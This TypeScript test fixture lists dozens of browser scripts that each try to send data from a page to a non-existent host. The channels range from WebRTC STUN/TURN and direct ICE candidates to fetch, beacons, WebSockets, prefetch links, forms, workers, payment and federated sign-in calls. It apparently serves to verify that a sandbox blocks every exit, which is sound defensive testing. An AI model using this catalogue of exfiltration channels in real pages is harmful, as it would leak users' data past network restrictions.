/** Scripts that try to send data from a page to another computer, each in a different way. */

/** Destination of the data: a host name and an IP address that do not belong to any computer. */
export interface Elsewhere {
  readonly host: string;
  readonly address: string;
}

export interface Exit {
  readonly name: string;
  /** Script that sends data. May use `host`, `address`, `add(tag)` (adds an element) and `both(scheme)` (two URLs). */
  readonly code: string;
  /** True if the script uses no host name. The check then counts packets, because there is no DNS query. */
  readonly withoutName?: true;
  /** True if the script sends nothing from an unprotected page in headless Chromium, but may send in Electron. */
  readonly isSilentElsewhere?: true;
}

const exit = (name: string, code: string): Exit => ({ name, code });
/** Returns a WebRTC script. Its ICE servers are `scheme` + host + `rest`. With an empty `scheme` it uses no server. */
const peer = (scheme: string, rest = ''): string => `
  const urls = [address, host].map((each) => '${scheme}' + each + '${rest}');
  const servers = ${scheme === '' ? '[]' : "[{ urls, username: 'x', credential: 'x' }]"};
  const peer = new RTCPeerConnection({ iceServers: servers });
  peer.createDataChannel('x');
  await peer.setLocalDescription(await peer.createOffer());`;
/** Connects by WebRTC to the address of an invented peer, without an ICE server. */
const DIRECT_PEER = `
  const [one, two] = [new RTCPeerConnection(), new RTCPeerConnection()];
  one.createDataChannel('x');
  await one.setLocalDescription(await one.createOffer());
  await two.setRemoteDescription(one.localDescription);
  await two.setLocalDescription(await two.createAnswer());
  await one.setRemoteDescription(two.localDescription);
  for (const protocol of ['udp', 'tcp']) await one.addIceCandidate({ sdpMid: '0', candidate:
    'candidate:1 1 ' + protocol + ' 2122260223 ' + address + ' 3478 typ host' + (protocol === 'tcp' ? ' tcptype passive' : '') });`;
const link = (rel: string, as?: string): Exit =>
  exit(
    `<link rel=${rel}>`,
    `for (const href of both('https')) add('link', { rel: '${rel}', href${as === undefined ? '' : `, as: '${as}'`} });`,
  );
const loads = (tag: string, property: string): Exit =>
  exit(`<${tag} ${property}>`, `for (const at of both('http')) add('${tag}', { ${property}: at });`);
const style = (property: string, before = 'url(', after = ')'): Exit =>
  exit(
    `${property} in a style`,
    `for (const at of both('http')) add('li').style.setProperty('${property}', '${before}' + at + '${after}');`,
  );

export const EXITS: readonly Exit[] = [
  // Runs the scripts without a host name first. Otherwise the check could mistake packets of other scripts for theirs.
  { ...exit('WebRTC: host candidates', peer('')), withoutName: true },
  { ...exit('WebRTC: a peer at an address', DIRECT_PEER), withoutName: true },
  exit('WebRTC: STUN', peer('stun:', ':3478')),
  exit('WebRTC: TURN over UDP', peer('turn:', ':3478')),
  exit('WebRTC: TURN over TCP', peer('turn:', ':3478?transport=tcp')),
  exit('WebRTC: TURN over TLS', peer('turns:', ':5349?transport=tcp')),
  exit('fetch', `for (const at of both('http')) void fetch(at, { mode: 'no-cors' }).catch(() => undefined);`),
  exit(
    'fetch with keepalive',
    `for (const at of both('https')) void fetch(at, { mode: 'no-cors', method: 'POST', body: 'x', keepalive: true }).catch(() => undefined);`,
  ),
  exit(
    'XMLHttpRequest',
    `for (const at of both('http')) { const sent = new XMLHttpRequest(); sent.open('POST', at); sent.send('x'); }`,
  ),
  exit('sendBeacon', `for (const at of both('http')) navigator.sendBeacon(at, 'x');`),
  exit('EventSource', `for (const at of both('http')) new EventSource(at);`),
  exit(
    'WebSocket',
    `for (const at of both('ws')) new WebSocket(at); for (const at of both('wss')) new WebSocket(at);`,
  ),
  exit(
    'WebTransport',
    `for (const at of both('https')) void new WebTransport(at).ready.catch(() => undefined);`,
  ),
  link('dns-prefetch'),
  link('preconnect'),
  link('prefetch'),
  link('preload', 'image'),
  link('modulepreload'),
  link('stylesheet'),
  { ...link('icon'), isSilentElsewhere: true },
  { ...link('manifest'), isSilentElsewhere: true },
  loads('img', 'src'),
  loads('audio', 'src'),
  loads('object', 'data'),
  loads('iframe', 'src'),
  loads('script', 'src'),
  exit('<input type=image>', `for (const src of both('http')) add('input', { type: 'image', src });`),
  exit(
    'an image in SVG',
    `for (const at of both('http')) add('div').appendChild(document.createElementNS('http://www.w3.org/2000/svg', 'svg'))
       .appendChild(document.createElementNS('http://www.w3.org/2000/svg', 'image')).setAttribute('href', at);`,
  ),
  style('background-image'),
  style('cursor', 'url(', '), auto'),
  exit(
    'a font',
    `for (const at of both('https')) void new FontFace('x', 'url(' + at + ')').load().catch(() => undefined);`,
  ),
  exit(
    'a form by GET',
    `for (const action of both('http')) add('form', { action, target: '_top' }).submit();`,
  ),
  exit(
    'a form in a new window',
    `for (const action of both('http')) add('form', { action, target: '_blank' }).submit();`,
  ),
  exit('window.open', `for (const at of both('http')) window.open(at);`),
  exit('location', `location.href = both('http')[1];`),
  exit('a link', `add('a', { href: both('http')[1], textContent: 'x' }).click();`),
  exit(
    'a link in a new window',
    `add('a', { href: both('http')[1], target: '_blank', textContent: 'x' }).click();`,
  ),
  exit('a download', `add('a', { href: both('http')[1], download: 'x', textContent: 'x' }).click();`),
  exit('a ping', `add('a', { href: '#x', ping: both('http').join(' '), textContent: 'x' }).click();`),
  exit(
    'a refresh',
    `document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=' + both('http')[1] }));`,
  ),
  exit('import()', `for (const at of both('https')) void import(at).catch(() => undefined);`),
  exit(
    'a script of a worker',
    `const blob = (text) => URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));
     for (const at of both('http')) new Worker(blob('fetch(' + JSON.stringify(at) + ', { mode: "no-cors" })'));`,
  ),
  exit(
    'a worklet',
    `for (const at of both('https')) void new AudioContext().audioWorklet.addModule(at).catch(() => undefined);`,
  ),
  exit(
    'speculation rules',
    `add('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: both('https') }] }) });`,
  ),
  exit(
    'a payment',
    `void new PaymentRequest([{ supportedMethods: 'https://' + host + '/pay' }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment().catch(() => undefined);`,
  ),
  exit(
    'federated sign-in',
    `void navigator.credentials.get({ identity: { providers: [{ configURL: 'https://' + host + '/fedcm.json', clientId: 'x' }] } }).catch(() => undefined);`,
  ),
  exit(
    'WebRTC from an empty frame',
    `const { contentWindow } = add('iframe'); const RTCPeerConnection = contentWindow.RTCPeerConnection;
     ${peer('stun:', ':3478')}`,
  ),
  {
    name: 'a webview',
    code: `for (const src of both('https')) add('webview', { src });`,
    isSilentElsewhere: true,
  },
];

/** Returns a script that runs in a task of the page, and so without the test driver's privileges. */
export function scriptOf({ code }: Exit, { host, address }: Elsewhere): string {
  return `new Promise((done) => setTimeout(async () => {
    const [host, address] = ${JSON.stringify([host, address])};
    const both = (scheme) => [scheme + '://' + address + '/x', scheme + '://' + host + '/x'];
    const add = (tag, properties = {}) => {
      const made = Object.assign(document.createElement(tag), properties);
      document.body.append(made);
      return made;
    };
    const go = async () => { ${code} };
    await go().catch(() => undefined);
    done(null);
  }))`;
}
